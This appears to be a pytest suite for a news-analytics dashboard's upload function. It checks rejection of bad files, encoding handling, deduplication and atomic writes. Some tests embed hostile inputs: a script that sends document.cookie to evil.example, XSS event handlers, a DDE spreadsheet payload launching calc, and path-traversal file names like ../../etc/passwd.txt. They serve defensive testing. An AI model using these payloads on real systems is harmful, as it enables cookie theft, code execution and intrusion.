"""Uploads through the function the Add articles page calls: every hostile file of the issue gets its
own message, good files beside it are stored, refused ones store nothing, and earlier rows stay as
they were."""

from __future__ import annotations

import threading

import duckdb
import pytest

from analytics.ingest import ingest_uploads, results_rows
from tests.conftest import SEED

TABLES = ["documents", "sentences", "events", "aid_figures", "diplomatic_items", "statements", "record_actors",
          "record_themes", "record_sources"]  # fmt: skip
STORY = "Russian forces shelled Kherson on Monday, the regional governor said."

REFUSED = {  # name -> (bytes, what the message must say)
    "empty.txt": (b"", "empty"),
    "blank.md": (b"  \n\t\n", "empty"),
    "renamed-pdf.txt": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "PDF"),
    "renamed-png.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "PNG"),
    "garbage.txt": (bytes(range(128, 256)) * 40, "not valid UTF-8"),
    "nul.txt": (b"Kyiv\x00\x00\x00 said", "NUL"),
    "bad-front-matter.md": (
        b"---\ntitle: [unclosed\npublished: 2023-01-01\n---\nText.",
        "malformed front matter",
    ),
    "unclosed-front-matter.md": (b"---\ntitle: x\n\nRussian forces shelled Kherson.", "never closed"),
    "list-front-matter.md": (b"---\n- a\n- b\n---\nRussian forces shelled Kherson.", "key: value"),
    "bad-date.md": (b"---\npublished: soon\n---\nRussian forces shelled Kherson.", "not YYYY-MM-DD"),
    "no-body.md": (b"---\ntitle: Only metadata\n---\n", "no article text"),
    "scripts-only.html": (
        b"<html><script>alert(1)</script><iframe src=x></iframe></html>",
        "no article text",
    ),
    "report.pdf": (b"%PDF-1.7", "unsupported file type"),
    "noext": (STORY.encode(), "unsupported file type"),
}


def snapshot(con) -> dict:
    return {t: con.execute(f"SELECT * FROM {t} ORDER BY ALL").fetchall() for t in TABLES}


@pytest.fixture
def stored(tmp_path, seed_db):
    """A database holding the seed article, open read-write as the server holds it: a copy of the
    session's seed database (built once by the real ingest), so each test writes its own file."""
    import shutil

    from analytics.store import connect

    shutil.copyfile(seed_db, tmp_path / "u.duckdb")
    con = connect(tmp_path / "u.duckdb")
    assert con.execute("SELECT count(*) FROM documents").fetchone()[0] == 1
    yield con
    con.close()


def by_name(results) -> dict:
    return {r.name: r for r in results}


def test_each_hostile_file_gets_its_reason_and_changes_nothing(stored):
    before = snapshot(stored)
    results = by_name(ingest_uploads(stored, [(n, raw) for n, (raw, _) in REFUSED.items()]))
    for name, (_, reason) in REFUSED.items():
        r = results[name]
        assert r.status == "failed" and r.reason.startswith(f"{name}: ") and reason in r.reason, (name, r)
        assert r.records == 0 and r.doc_id is None
    assert snapshot(stored) == before


def test_good_files_beside_bad_ones_are_stored_and_earlier_rows_kept(stored):
    before = snapshot(stored)
    uploads = [
        ("empty.txt", b""),
        ("kharkiv-cp1251.txt",
         "Обстрел Харькова\n\nРоссийские войска обстреляли Харьков в понедельник, сообщили власти.".encode("cp1251")),
        ("cafe-latin1.txt",
         "Café talks\n\nThe Kremlin denied that its forces had shelled the café district of Kherson.".encode("latin-1")),
        ("renamed-png.txt", REFUSED["renamed-png.txt"][0]),
        ("kherson.md", f"---\ntitle: Kherson\npublished: 2023-05-15\n---\n{STORY}\n".encode()),
    ]  # fmt: skip
    results = ingest_uploads(stored, uploads)
    assert [r.status for r in results] == ["failed", "added", "added", "failed", "added"]
    after = snapshot(stored)
    for table in TABLES:  # nothing earlier changed or went away
        assert set(before[table]) <= set(after[table]), table
    texts = [t for (t,) in stored.execute("SELECT text FROM documents").fetchall()]
    assert any("Харьков" in t for t in texts) and any("café" in t for t in texts)
    assert len(texts) == len(before["documents"]) + 3


def test_a_duplicate_of_a_stored_article_is_reported_and_not_stored_twice(stored):
    before = snapshot(stored)
    results = ingest_uploads(stored, [("again.txt", SEED.read_bytes()), ("crlf.txt", SEED.read_bytes()
                                      .replace(b"\n", b"\r\n"))])  # fmt: skip
    assert [r.status for r in results] == ["present", "present"]
    assert all(r.reason is None and r.doc_id for r in results)
    assert snapshot(stored) == before
    assert results_rows(results)[0]["status"] == "already present"


def test_the_same_file_twice_in_one_upload_is_stored_once(stored):
    raw = f"{STORY}\n\nUkraine said it had repelled the attack.".encode()
    results = ingest_uploads(stored, [("a.txt", raw), ("b.txt", raw)])
    assert [r.status for r in results] == ["added", "present"]
    assert (
        stored.execute("SELECT count(*) FROM documents WHERE name IN ('a.txt', 'b.txt')").fetchone()[0] == 1
    )


def test_oversized_file_is_refused_on_its_size_before_any_byte_is_read(stored, monkeypatch):
    class Upload:  # what Streamlit's UploadedFile offers
        name = "huge.txt"
        size = 21 * 1024 * 1024

        def getvalue(self):
            raise AssertionError("an oversized upload must not be read")

    before = snapshot(stored)
    [r] = ingest_uploads(stored, [Upload()])
    assert r.status == "failed"
    assert "huge.txt: 21.0 MB is over the 20 MB limit" in r.reason and "DASHBOARD_MAX_ARTICLE_MB" in r.reason
    monkeypatch.setenv("DASHBOARD_MAX_ARTICLE_MB", "1")
    [r] = ingest_uploads(stored, [("big.txt", ((STORY + " ") * 20_000).encode())])  # ~1.4 MB
    assert r.status == "failed" and "over the 1 MB limit" in r.reason
    assert snapshot(stored) == before


def test_a_multi_megabyte_single_line_is_stored_in_bounded_sentences(stored):
    line = ("the convoy moved slowly along the road near the border " * 40_000).encode()  # ~2.2 MB, no stops
    [r] = ingest_uploads(stored, [("one-line.txt", line)])
    assert r.status == "added"
    longest = stored.execute("SELECT max(end_char - start_char) FROM sentences WHERE doc_id = ?", [r.doc_id])
    assert longest.fetchone()[0] < 5_000


def test_html_scripts_frames_and_handlers_never_reach_the_store(stored):
    story = " ".join(["Ukrainian forces recaptured the village of Robotyne, the General Staff said."] * 4)
    page = ("<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head><body>"
            "<iframe src='https://evil.example'></iframe><article><h1>Robotyne</h1>"
            f"<p onclick=\"alert(2)\">{story}</p><p><img src=x onerror=alert(1)>Fighting went on on Tuesday.</p>"
            "<svg onload=alert(3)></svg></article></body></html>")  # fmt: skip
    [r] = ingest_uploads(stored, [("page.html", page.encode())])
    assert r.status == "added", r
    text = stored.execute("SELECT text FROM documents WHERE doc_id = ?", [r.doc_id]).fetchone()[0]
    assert "recaptured the village" in text
    for bad in ("<script", "evil.example", "onerror", "onclick", "onload", "<iframe", "alert("):
        assert bad not in text


def test_spreadsheet_formulas_are_stored_verbatim(stored):
    text = ('=HYPERLINK("http://evil.example","x") Ukraine accused Russia of shelling Kherson.\n\n'
            "+cmd|' /C calc'!A0 The Kremlin denied the reports.\n\n@SUM(1+1) Russia warned the West.\n\n"
            "-2+3 Zelensky urged allies to send tanks.\n")  # fmt: skip
    [r] = ingest_uploads(stored, [("formulas.txt", text.encode())])
    assert r.status == "added"
    assert stored.execute("SELECT text FROM documents WHERE doc_id = ?", [r.doc_id]).fetchone()[0] == text


@pytest.mark.parametrize("given, shown", [
    ("../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\windows\\system.ini.txt", "system.ini.txt"),
    ("a/b/../c.md", "c.md"),
    ("/abs/path/d.txt", "d.txt"),
    ("..txt", "txt"),
    ("ok\x00\x1b[31m.txt", "ok[31m.txt"),
])  # fmt: skip
def test_path_like_names_are_reduced_to_base_names_and_nothing_is_written_to_disk(
    stored, tmp_path, monkeypatch, given, shown
):
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    [r] = ingest_uploads(stored, [(given, f"{STORY} ({given!r})".encode())])
    assert r.name == shown
    if shown.endswith((".txt", ".md")):
        assert r.status == "added"
        assert (
            stored.execute("SELECT name FROM documents WHERE doc_id = ?", [r.doc_id]).fetchone()[0] == shown
        )
    else:
        assert r.status == "failed" and r.reason.startswith(f"{shown}: ")
    assert list(work.iterdir()) == [] and not (tmp_path / "etc").exists()


def test_a_store_that_fails_half_way_leaves_no_partial_article(stored, monkeypatch):
    from analytics.store import writer as ingest  # the writer the article store goes through

    real = ingest.insert_tables

    def half(con, tables):  # documents and sentences go in, then the store fails
        real(con, {k: v for k, v in tables.items() if k in ("documents", "sentences")})
        raise duckdb.IOException("disk full")

    before = snapshot(stored)
    monkeypatch.setattr(ingest, "insert_tables", half)
    [r] = ingest_uploads(stored, [("k.txt", STORY.encode())])
    assert r.status == "failed" and "could not be stored" in r.reason and "disk full" in r.reason
    assert snapshot(stored) == before
    monkeypatch.setattr(ingest, "insert_tables", real)
    [r] = ingest_uploads(stored, [("k.txt", STORY.encode())])
    assert r.status == "added"  # the retry goes in whole


def test_progress_is_reported_per_file_and_each_write_holds_the_lock(stored):
    seen, held = [], []

    class Lock:
        def __init__(self):
            self.lock = threading.Lock()

        def __enter__(self):
            self.lock.acquire()
            held.append(True)

        def __exit__(self, *exc):
            self.lock.release()

    uploads = [(f"{i}.txt", f"{STORY} Item {i}.".encode()) for i in range(3)] + [("empty.txt", b"")]
    results = ingest_uploads(
        stored, uploads, progress=lambda d, t, n: seen.append((d, t, n)), write_lock=Lock()
    )
    assert [r.status for r in results] == ["added"] * 3 + ["failed"]
    assert seen == [(0, 4, "0.txt"), (1, 4, "1.txt"), (2, 4, "2.txt"), (3, 4, "empty.txt"), (4, 4, "")]
    assert len(held) == 1 + 3 + 1  # the vocabulary check, each readable article, then the derived tables once


def test_uploads_from_two_threads_through_one_lock_store_each_article_once(stored):
    lock = threading.Lock()
    raws = [(f"t{i}.txt", f"{STORY} Report number {i}.".encode()) for i in range(6)]
    out: list = []

    def upload():
        cur = stored.cursor()
        out.extend(ingest_uploads(cur, raws, write_lock=lock))
        cur.close()

    threads = [threading.Thread(target=upload) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(r.status for r in out) == ["added"] * 6 + ["present"] * 6
    n = stored.execute("SELECT count(*) FROM documents WHERE name LIKE 't%.txt'").fetchone()[0]
    assert n == 6
